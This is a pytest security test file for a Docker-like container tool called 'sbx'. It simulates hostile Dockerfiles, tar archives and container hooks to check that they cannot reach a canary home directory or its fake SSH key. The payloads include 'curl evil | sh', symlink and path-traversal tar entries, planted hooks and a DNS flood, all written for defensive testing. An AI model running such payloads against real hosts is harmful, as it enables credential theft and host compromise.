"""Attacks on the surfaces added after the first security audit: RUN --mount, the Docker API
service (build contexts, archives), named volumes, the network holder and the files sbx keeps
in its runtime directory.  Every test plays the hostile side (a Dockerfile and context nobody
vetted, a tar sent to the API, a container) as the unprivileged user running sbx, and checks
what the host kept: a canary "home" directory of the user's must stay as it was, its secret
must not reach a container or an image, and nothing may be written outside the store.

Run as sbxsub (placement in a subuid-mapped worker), sbxnosub (in-process) and root."""
from __future__ import annotations

import http.client
import io
import json
import os
import shlex
import shutil
import socket
import stat
import subprocess
import tarfile
import tempfile
import threading

import pytest

import sbxtest
from baseimage import import_busybox
from sbxtest import sbx, tree_snapshot

SECRET = "PRIVATE KEY of the host user"


@pytest.fixture(scope="module")
def base_image(tmp_path_factory, busybox_rootfs):
    """base:1, a busybox image, in the session's store."""
    return import_busybox(tmp_path_factory, busybox_rootfs, "base:1")


@pytest.fixture()
def home(tmp_path):
    """The victim: a directory of the user's holding a secret; checked unchanged afterwards."""
    h = tmp_path / "home"
    (h / ".ssh").mkdir(parents=True)
    (h / ".ssh" / "id_rsa").write_text(SECRET + "\n")
    os.chmod(h / ".ssh" / "id_rsa", 0o600)
    (h / ".bashrc").write_text("echo hello\n")
    os.chmod(h, 0o700)
    before = tree_snapshot(h)
    yield h
    assert tree_snapshot(h) == before, "the attack changed the host directory it aimed at"


def _ctx(tmp_path, dockerfile, files=None, links=None):
    ctx = tmp_path / "ctx"
    ctx.mkdir()
    (ctx / "Dockerfile").write_text(dockerfile)
    for name, content in (files or {}).items():
        (ctx / name).parent.mkdir(parents=True, exist_ok=True)
        (ctx / name).write_text(content)
    for name, target in (links or {}).items():
        os.symlink(target, ctx / name)
    return ctx


# --- RUN --mount=type=bind: a symbolic link as the source ---------------------------------------

def test_bind_mount_of_a_context_symlink_does_not_reach_the_host(tmp_path, base_image, home):
    """`source=link` where the context's link points at the user's home: the mount shows what
    the link names inside the context (nothing here), never the host directory, even `rw`."""
    ctx = _ctx(tmp_path, f"FROM {base_image}\n"
                         "RUN --mount=type=bind,source=link,target=/m,rw "
                         "cat /m/.ssh/id_rsa; echo pwned > /m/planted; echo pwned >> /m/.bashrc; true\n",
               links={"link": str(home)})
    r = sbx("build", "--no-cache", "-t", "surf-bind1", str(ctx), timeout=180)
    assert SECRET not in r.stdout + r.stderr, "the host's secret was shown to a RUN step"
    assert not (home / "planted").exists()


def test_bind_mount_of_a_stage_symlink_does_not_reach_the_host(tmp_path, base_image, home):
    """The same link made by a RUN step of another stage (`from=`): resolved in that stage."""
    ctx = _ctx(tmp_path, f"FROM {base_image} AS evil\n"
                         f"RUN ln -s {home} /x && ln -s {home}/.ssh/id_rsa /key\n"
                         f"FROM {base_image}\n"
                         "RUN --mount=type=bind,from=evil,source=/x,target=/m,rw "
                         "cat /m/.ssh/id_rsa; echo pwned > /m/planted; true\n"
                         "RUN --mount=type=bind,from=evil,source=/key,target=/k cat /k; true\n")
    r = sbx("build", "--no-cache", "-t", "surf-bind2", str(ctx), timeout=180)
    assert SECRET not in r.stdout + r.stderr, "the host's secret was shown to a RUN step"
    assert not (home / "planted").exists()


def test_bind_mount_symlink_source_resolves_inside_the_context(tmp_path, base_image):
    """BuildKit's semantics kept: a link to a directory or file of the context mounts that."""
    ctx = _ctx(tmp_path, f"FROM {base_image}\n"
                         "RUN --mount=type=bind,source=dirlink,target=/m --mount=type=bind,source=filelink,target=/f "
                         "cat /m/inner /f > /seen\n",
               files={"sub/inner": "inner\n", "file": "file\n"},
               links={"dirlink": "sub", "filelink": "/sub/../file"})
    r = sbx("build", "-q", "-t", "surf-bind3", str(ctx), timeout=180)
    assert r.returncode == 0, r.stdout + r.stderr
    out = sbxtest.ok(sbx("run", "--rm", "surf-bind3", "cat", "/seen", timeout=60))
    assert out == "inner\nfile\n"


# --- the Docker API: POST /build's context tar --------------------------------------------------

@pytest.fixture(scope="module")
def service(tmp_path_factory, base_image):
    with sbxtest.docker_service(tmp_path_factory.mktemp("svc")) as (path, _):
        yield path


class _UnixConnection(http.client.HTTPConnection):
    def __init__(self, path):
        super().__init__("localhost", timeout=180)
        self.path = str(path)

    def connect(self):
        self.sock = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        self.sock.settimeout(180)
        self.sock.connect(self.path)


def _api(service, method, url, body=None, headers=None):
    c = _UnixConnection(service)
    try:
        c.request(method, url, body=body, headers=headers or {})
        r = c.getresponse()
        return r.status, r.read()
    finally:
        c.close()


def _tar(entries):
    """entries: (name, kind, data) with kind file|symlink|hardlink|dir."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tf:
        for name, kind, data in entries:
            info = tarfile.TarInfo(name)
            info.mode = 0o644
            if kind == "file":
                info.size = len(data)
                tf.addfile(info, io.BytesIO(data))
                continue
            if kind == "symlink":
                info.type, info.linkname = tarfile.SYMTYPE, data
            elif kind == "hardlink":
                info.type, info.linkname = tarfile.LNKTYPE, data
            else:
                info.type, info.mode = tarfile.DIRTYPE, 0o755
            tf.addfile(info)
    return buf.getvalue()


def _build(service, tar, tag):
    status, body = _api(service, "POST", f"/v1.44/build?t={tag}&q=1", tar,
                        {"Content-Type": "application/x-tar"})
    return status, body.decode("utf-8", "replace")


def test_api_build_context_cannot_write_outside_by_absolute_name(service, home, tmp_path):
    """A context member named with an absolute path lands in the context, not on the host."""
    victim = tmp_path / "dropped"
    tar = _tar([("Dockerfile", "file", b"FROM base:1\n"),
                (str(victim), "file", b"pwned\n"),
                (str(home / ".bashrc"), "file", b"curl evil | sh\n")])
    _build(service, tar, "surf-api1")
    assert not victim.exists(), "the build context wrote a host path the archive named"


def test_api_build_context_cannot_write_through_its_own_symlink(service, home):
    """`evil -> HOME/.bashrc` then a file `evil`, and a directory `d -> HOME` then `d` as a
    directory: the file replaces the link; nothing is written, chmod'ed or chown'ed through it."""
    tar = _tar([("Dockerfile", "file", b"FROM base:1\n"),
                ("evil", "symlink", str(home / ".bashrc")),
                ("evil", "file", b"curl evil | sh\n"),
                ("d", "symlink", str(home)),
                ("d", "dir", b"")])
    _build(service, tar, "surf-api2")


def test_api_build_context_hardlink_cannot_take_a_host_file(service, home):
    """A hard link member naming the user's key by absolute path must not pull it into the
    image."""
    tar = _tar([("Dockerfile", "file", b"FROM base:1\nCOPY k /k\n"),
                ("k", "hardlink", str(home / ".ssh" / "id_rsa"))])
    status, body = _build(service, tar, "surf-api3")
    assert SECRET not in body
    if status == 200 and '"error' not in body:
        r = sbx("run", "--rm", "surf-api3", "cat", "/k", timeout=60)
        assert SECRET not in r.stdout, "the host's key was copied into an image"


# --- sbx-runc: its state directory in the shared /tmp -------------------------------------------

@pytest.mark.parametrize("squat", ["link", "others_dir"])
def test_runc_tmp_state_dir_of_another_user_is_refused(tmp_path, squat):
    """Without XDG_RUNTIME_DIR, sbx-runc keeps state in /tmp/sbx-runc-UID.  Another user can make
    that path first (a link to their directory, or their own world-writable directory) and plant
    ID/state.json with a poststop hook: a later `sbx-runc delete ID` of ours would run it.  The
    test plays both users in a user and mount namespace of its own (uid 0 there, /tmp a fresh
    tmpfs); the other user's directory is the host's /var/tmp (not ours there, or not private)."""
    from ocitest import runc_argv
    plant = tmp_path / "plant"
    (plant / "evil").mkdir(parents=True)
    mark = tmp_path / "hook-ran"
    state = {"ociVersion": "1.2.0", "id": "evil", "pid": 4194303, "pid_start": 1, "bundle": str(tmp_path),
             "rootfs": str(tmp_path), "created": "2026-01-01T00:00:00Z", "owner": "",
             "hooks": {"poststop": [{"path": "/bin/sh", "args": ["sh", "-c", f"touch {mark}"],
                                          "env": ["PATH=/bin:/usr/bin"]}]}}
    (plant / "evil" / "state.json").write_text(json.dumps(state))
    if squat == "link":
        setup = f"ln -s {plant} /tmp/sbx-runc-0"
    else:  # /var/tmp: a directory of root's (unmapped here unless we are root) that everyone writes
        other = tempfile.mkdtemp(prefix="sbx-audit-plant-", dir="/var/tmp")
        os.rename(plant / "evil", os.path.join(other, "evil"))
        os.chmod(other, 0o777)
        setup = f"mkdir /tmp/sbx-runc-0 && mount --bind {other} /tmp/sbx-runc-0"
    env = {k: v for k, v in os.environ.items() if k != "XDG_RUNTIME_DIR"}
    argv = " ".join(shlex.quote(a) for a in runc_argv())
    script = f"set -e; mount -t tmpfs tmpfs /tmp; {setup}; exec {argv} delete evil"
    try:
        r = subprocess.run(["unshare", "-Urm", "sh", "-c", script], capture_output=True, text=True,
                           env=env, timeout=60, cwd=sbxtest.NEUTRAL_CWD)
    finally:
        if squat != "link":
            shutil.rmtree(other, ignore_errors=True)
    assert not mark.exists(), "sbx-runc ran a hook from a state directory another user controls"
    assert r.returncode != 0 and "state directory /tmp/sbx-runc-0" in r.stderr, r.stdout + r.stderr


# --- the network holder: what one container can do to the others ------------------------------

@pytest.fixture(scope="module")
def flood_rootfs(tmp_path_factory):
    """A busybox root with /bin/attack (tests/security/attack.c)."""
    root = sbxtest.build_busybox_rootfs(tmp_path_factory.mktemp("flood") / "rootfs")
    src = os.path.join(os.path.dirname(__file__), "attack.c")
    cp = subprocess.run([shutil.which("gcc") or "cc", "-static", "-O1", "-o", str(root / "bin/attack"), src],
                        capture_output=True, text=True)
    assert cp.returncode == 0, cp.stderr
    return root


def test_dns_flood_from_one_container_leaves_the_holder_serving(tmp_path, monkeypatch, flood_rootfs):
    """A container floods its network's DNS responder with names the holder passes on upstream
    (one socket each until answered).  The holder, shared by every container of the user on
    user-defined networks, must stay up: another container still resolves its peers."""
    monkeypatch.setenv("SBX_ROOT", str(tmp_path / "data"))
    (tmp_path / "run").mkdir(mode=0o700)
    monkeypatch.setenv("SBX_RUNROOT", str(tmp_path / "run"))
    holder = tmp_path / "run" / "net" / "holder"
    try:
        sbxtest.ok(sbx("network", "create", "floodnet"))
        for name in ("victim", "flooder"):
            sbxtest.ok(sbx("run", "-d", "--name", name, "--network", "floodnet", "--rootfs", str(flood_rootfs),
                           "sleep", "1000", timeout=60))
        pid = int((holder / "holder.pid").read_text().split()[0])
        gw = sbxtest.ok(sbx("exec", "victim", "awk", "/nameserver/{print $2}", "/etc/resolv.conf")).strip()
        flood = f"for i in $(seq 20); do attack dnsflood {gw} 400 || exit 1; usleep 100000; done"
        sbx("exec", "flooder", "sh", "-c", flood, timeout=120)
        assert os.path.exists(f"/proc/{pid}"), "one container's DNS queries killed the network holder"
        r = sbx("exec", "victim", "nslookup", "flooder", gw, timeout=60)
        assert r.returncode == 0 and "Address" in r.stdout.split("flooder", 1)[-1], r.stdout + r.stderr
        # what the holder and the helpers keep in the runtime root is the user's alone
        run = tmp_path / "run"
        assert stat.S_IMODE(run.stat().st_mode) == 0o700 and (holder / "holder.sock").exists()
        for p in [run, *run.rglob("*")]:
            st = p.lstat()
            assert st.st_uid == os.getuid() and not st.st_mode & 0o022, (p, oct(st.st_mode))
            if stat.S_ISDIR(st.st_mode):
                assert not st.st_mode & 0o077, (p, oct(st.st_mode))
    finally:
        ids = sbx("ps", "-a", "-q").stdout.split()
        if ids:
            sbx("rm", "-f", *ids, timeout=60)


# --- RUN --network=host: only when the one building grants it -----------------------------------

def test_run_network_host_needs_the_build_to_grant_it(tmp_path, base_image):
    """A Dockerfile's `RUN --network=host` would reach the host's loopback services (and its
    abstract unix sockets).  As BuildKit's network.host entitlement: refused unless the build
    was given `--network host`; then it works."""
    srv = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    srv.bind(("127.0.0.1", 0))
    srv.listen(8)
    port = srv.getsockname()[1]

    def answer():
        while True:
            try:
                c, _ = srv.accept()
            except OSError:
                return
            c.sendall(SECRET.encode() + b"\n")
            c.close()

    t = threading.Thread(target=answer, daemon=True)
    t.start()
    ctx = _ctx(tmp_path, f"FROM {base_image}\nRUN --network=host nc -w 3 127.0.0.1 {port} </dev/null; true\n")
    try:
        r = sbx("build", "--no-cache", "-t", "surf-nethost", str(ctx), timeout=180)
        assert SECRET not in r.stdout + r.stderr, "a Dockerfile alone reached a service on the host's loopback"
        sbxtest.assert_sbx_error(r, 125, "RUN --network=host", "--network host")
        r = sbx("build", "--no-cache", "--network", "host", "-t", "surf-nethost", str(ctx), timeout=180)
        assert r.returncode == 0 and SECRET in r.stdout + r.stderr, r.stdout + r.stderr
    finally:
        srv.close()


# --- sbx-runc: a startContainer hook is the image's program -------------------------------------

def test_start_container_hook_runs_inside_the_container(tmp_path):
    """startContainer's path resolves in the container (runtime-spec), so the program is the
    image's.  It must run as confined as the container's process: in its pid namespace, not
    the host's, where it could signal (or, same uid, ptrace) the user's host processes."""
    from ocitest import Runtime, edit_config, make_bundle
    r = Runtime(tmp_path / "state")
    canary = subprocess.Popen(["sleep", "300"])
    b = make_bundle(tmp_path / "b", ["true"])
    hook = b / "rootfs" / "hook"
    hook.write_text(f"#!/bin/sh\nkill -9 {canary.pid}; echo \"kill=$? pid1=$(cat /proc/1/comm)\" > /hook-ran\n")
    hook.chmod(0o755)
    edit_config(b, lambda c: c.update(hooks={"startContainer": [{"path": "/hook", "args": ["hook"],
                                                                   "env": ["PATH=/bin:/usr/bin"]}]}))
    try:
        r("create", "--bundle", b, "sc1", check=True)
        r("start", "sc1")
        from ocitest import wait_file
        out = wait_file(b / "rootfs" / "hook-ran")
        assert canary.poll() is None, f"the image's startContainer hook killed a host process ({out.strip()})"
        assert "kill=0" not in out, out
    finally:
        r("delete", "--force", "sc1")
        canary.kill()
        canary.wait()


# --- ADD <url>: fetched by sbx on the host ------------------------------------------------------

def test_add_url_cannot_read_a_loopback_only_service(tmp_path, base_image):
    """ADD fetches on the host: a Dockerfile must not read the user's 127.0.0.1-only services
    into an image (RUN steps cannot reach them either), by address, by name, or through a
    redirect from a server it may reach; a build given the host's network may."""
    import http.server
    from sbxtest import host_address
    root = tmp_path / "srv"
    root.mkdir()
    (root / "secret").write_text(SECRET + "\n")

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *a, **kw):
            super().__init__(*a, directory=str(root), **kw)

        def log_message(self, *a):
            pass

    srv = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Quiet)
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    port = srv.server_address[1]

    class Redirect(http.server.BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(302)
            self.send_header("Location", f"http://127.0.0.1:{port}/secret")
            self.end_headers()

        def log_message(self, *a):
            pass

    addr = host_address()
    assert addr, "this machine has no non-loopback address to serve the redirect on"
    hop = http.server.ThreadingHTTPServer((addr, 0), Redirect)
    threading.Thread(target=hop.serve_forever, daemon=True).start()
    try:
        for i, url in enumerate((f"http://127.0.0.1:{port}/secret", f"http://localhost:{port}/secret",
                                 f"http://[::ffff:127.0.0.1]:{port}/secret", f"http://0.0.0.0:{port}/secret",
                                 f"http://{addr}:{hop.server_address[1]}/go")):
            d = tmp_path / f"c{i}"
            d.mkdir()
            ctx = _ctx(d, f"FROM {base_image}\nADD {url} /s\n")
            r = sbx("build", "-q", "--no-cache", "-t", "surf-add", str(ctx), timeout=180)
            assert r.returncode == 125 and "loopback" in r.stderr and "Traceback" not in r.stderr, (url, r.stderr)
            assert SECRET not in r.stdout + r.stderr
        r = sbx("build", "-q", "--no-cache", "--network", "host", "-t", "surf-add", str(ctx), timeout=180)
        assert r.returncode == 0, r.stderr                   # the one building grants the host's network
        assert SECRET in sbx("run", "--rm", "surf-add", "cat", "/s", timeout=60).stdout
    finally:
        for x in (srv, hop):
            x.shutdown()
            x.server_close()


def test_api_build_dockerfile_link_does_not_read_a_host_file(service, home):
    """The context's Dockerfile is a link to a file of the user's: the daemon reads the
    Dockerfile inside the context (as Docker's does), so the file is not read or echoed."""
    tar = _tar([("Dockerfile", "symlink", str(home / ".ssh" / "id_rsa"))])
    status, body = _build(service, tar, "surf-api4")
    assert SECRET not in body and "PRIVATE" not in body, body


# --- the Docker API: a container's archive ------------------------------------------------------

@pytest.mark.parametrize("running", [False, True], ids=["created", "running"])
def test_api_archive_put_and_get_stay_in_the_container(service, base_image, home, running):
    """PUT /containers/ID/archive with absolute names, `..`, and entries written after a link of
    the same name (to the user's files); GET through a link the container holds.  Whatever is
    refused or written, it is inside the container: the home is unchanged, its key unread."""
    name = f"surf-arch-{'run' if running else 'new'}"
    sbx("rm", "-f", name)
    sbxtest.ok(sbx("run" if running else "create", *(["-d"] if running else []), "--name", name,
                   base_image, "sleep", "300", timeout=60))
    try:
        bodies = []
        for entries in ([("evil", "symlink", str(home / ".bashrc")), ("evil", "file", b"pwned\n")],
                        [("d", "symlink", str(home)), ("d/planted", "file", b"pwned\n")],
                        [(str(home / "abs-planted"), "file", b"pwned\n")],
                        [("../../../../../../.." + str(home / "up-planted"), "file", b"pwned\n")]):
            status, body = _api(service, "PUT", f"/v1.44/containers/{name}/archive?path=/", _tar(entries),
                                {"Content-Type": "application/x-tar"})
            bodies.append((status, body))
        for link, target in (("keylink", str(home / ".ssh" / "id_rsa")), ("homelink", str(home))):
            _api(service, "PUT", f"/v1.44/containers/{name}/archive?path=/", _tar([(link, "symlink", target)]),
                 {"Content-Type": "application/x-tar"})
        for path in ("/keylink", "/homelink/.ssh/id_rsa", "/homelink/.", "/evil"):
            for method in ("GET", "HEAD"):
                status, body = _api(service, method, f"/v1.44/containers/{name}/archive?path={path}")
                assert SECRET.encode() not in body, (path, status)
        assert not list(home.glob("*planted")), bodies
    finally:
        sbx("rm", "-f", name, timeout=60)


def test_start_container_hook_cannot_read_the_callers_environment(tmp_path):
    """Between create and start the container's pid 1 is the sealed sbx-init holder, not a fork
    of sbx-runc, so the image's startContainer hook finds neither the caller's environment nor
    its state directory in /proc/1/{environ,cmdline} (its memory and /proc/1/exe: see
    tests/test_oci_held_init.py)."""
    from ocitest import Runtime, edit_config, make_bundle, wait_file
    secret = "hostenv-" + os.urandom(8).hex()
    r = Runtime(tmp_path / "state")
    b = make_bundle(tmp_path / "b", ["true"])
    hook = b / "rootfs" / "hook"
    hook.write_text("#!/bin/sh\n{ cat /proc/1/environ /proc/1/cmdline; echo; } > /seen 2>&1; echo done >> /seen\n")
    hook.chmod(0o755)
    edit_config(b, lambda c: c.update(hooks={"startContainer": [{"path": "/hook", "args": ["hook"],
                                                                   "env": ["PATH=/bin:/usr/bin"]}]}))
    try:
        r("create", "--bundle", b, "sc2", check=True, env=dict(os.environ, SBX_AUDIT_SECRET=secret))
        r("start", "sc2")
        seen = wait_file(b / "rootfs" / "seen")
        assert secret not in seen and str(tmp_path / "state") not in seen, seen
    finally:
        r("delete", "--force", "sc2")
